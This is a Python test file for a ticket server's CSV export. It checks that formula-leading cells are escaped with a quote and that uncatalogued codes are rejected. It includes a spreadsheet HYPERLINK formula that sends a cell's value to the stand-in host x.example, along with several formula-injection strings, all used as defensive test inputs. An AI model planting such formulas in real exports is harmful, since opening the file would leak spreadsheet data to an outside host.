"""The supervisors' CSV export and the codes it is made of: formulas never run, pushed codes are the catalogue's."""

from __future__ import annotations

import csv
import io
import logging
import uuid

import pytest
from sqlalchemy import insert

from server import schema
from server.db import iso, shared_engine, utcnow
from server.exports import safe_cell
from server.testing import running_api, unit_codes

FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"Details")'  # fits a 64-character code


@pytest.fixture
def api(server_db_url):
    with running_api(server_db_url) as api:
        yield api


def first_types(n: int = 2) -> list[str]:
    from domain.taxonomy import load_taxonomy

    return [c.code for c in load_taxonomy().leaves()[:n]]


def export(api, month: str | None = None) -> list[list[str]]:
    month = month or api.pull("sup1")["server_time"][:7]
    r = api.client.get("/api/v1/exports/tickets.csv", params={"month": month}, headers=api.login("sup1"))
    assert r.status_code == 200, r.text
    return list(csv.reader(io.StringIO(r.text)))


def store_directly(db_url: str, **fields) -> None:
    """A ticket row as an older service may have stored it, before pushed codes were checked."""
    now = iso(utcnow())
    row = {"id": str(uuid.uuid4()), "status": "registered", "operator": "op1", "version": 1, "created_at": now,
           "updated_at": now, "description": "d", **fields}
    with shared_engine(db_url).begin() as conn:
        conn.execute(insert(schema.tickets).values(**row))


def test_cells_that_a_spreadsheet_would_run_are_neutralised(api):
    code = first_types(1)[0]
    # The service now refuses such codes (tests/integration/test_server_codes.py); one stored before could be anything.
    store_directly(api.db_url, category_code=code, sub_district_code=FORMULA)
    for hostile in ("=1+1", "+41 22", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"):
        store_directly(api.db_url, category_code=hostile)
    rows = export(api)
    assert rows[0] == ["month", "category_code", "sub_district_code", "unit_code", "status", "tickets"]
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    for hostile in ("=1+1", "+41 22", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"):
        assert "'" + hostile in cells and hostile not in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Ordinary cells are written as they are.
    [row] = [row for row in rows[1:] if row[2] == "'" + FORMULA]
    assert row[1] == code and row[4:] == ["registered", "<5"]


@pytest.mark.parametrize("value, shown", [
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("01.02.003", "01.02.003"), ("<5", "<5"), ("", ""), (None, ""), (6, "6"),
])
def test_safe_cell(value, shown):
    assert safe_cell(value) == shown


def test_pushed_category_codes_must_be_in_the_catalogue(api):
    known, other = first_types(2)
    for code in (FORMULA[:64], "no.such.code", "ａｂｃ"):
        [result] = api.push_ok("op1", ("ticket.create", {"id": str(uuid.uuid4()), "description": "d", "category_code": code}))
        assert result["status"] == "rejected" and "catalogue" in result["error"], result
    tid = api.create_ticket("op1", category_code=known)
    [result] = api.push_ok("op1", ("ticket.update", {"id": tid, "base_version": 1, "category_code": "=1+1"}))
    assert result["status"] == "rejected" and "catalogue" in result["error"]
    [result] = api.push_ok("op1", ("ticket.update", {"id": tid, "base_version": 1, "category_code": other}))
    assert result["status"] == "applied"
    # No category yet is allowed: a ticket may be saved before it is categorised.
    api.create_ticket("op1", category_code="")
    assert {row[1] for row in export(api)[1:]} == {other, ""}


@pytest.mark.parametrize("field, limit", [("category_code", 64), ("sub_district_code", 64), ("taxonomy_version", 64),
                                          ("request_type", 16), ("urgency", 16), ("caller_phone", 40)])
def test_codes_longer_than_their_column_are_refused_the_same_way_on_both_databases(api, field, limit):
    # PostgreSQL enforces column lengths and SQLite does not: the service checks first, so both answer alike,
    # with the mutation rejected and its reason (never the whole push refused, never stored cut or whole).
    [result] = api.push_ok("op1", ("ticket.create", {"id": str(uuid.uuid4()), "description": "d",
                                                     field: "x" * (limit + 1)}))
    assert result["status"] == "rejected" and f"at most {limit}" in result["error"], result
    changes, _ = api.pull_all("op1")
    assert not [c for c in changes if c["kind"] == "ticket"]


def test_a_unit_list_that_cannot_be_read_accepts_no_unit(api, monkeypatch, caplog):
    import domain.routing

    unit = unit_codes()[0]
    code = first_types(1)[0]
    tid = api.create_ticket("op1", category_code=code, sub_district_code="110105001", incident_address="建国路")

    def broken():
        raise OSError("units file unreadable")

    monkeypatch.setattr(domain.routing, "load_units", broken)
    with caplog.at_level(logging.ERROR, logger="hotline.server.tickets"):  # logged in full: the service needs fixing
        [result] = api.push_ok("op1", ("ticket.transition", {"id": tid, "action": "dispatch", "unit_code": unit}))
    assert result["status"] == "rejected" and unit in result["error"]
    assert "the unit list cannot be read" in caplog.text
    monkeypatch.undo()
    [result] = api.push_ok("op1", ("ticket.transition", {"id": tid, "action": "dispatch", "unit_code": unit}))
    assert result["status"] == "applied", result
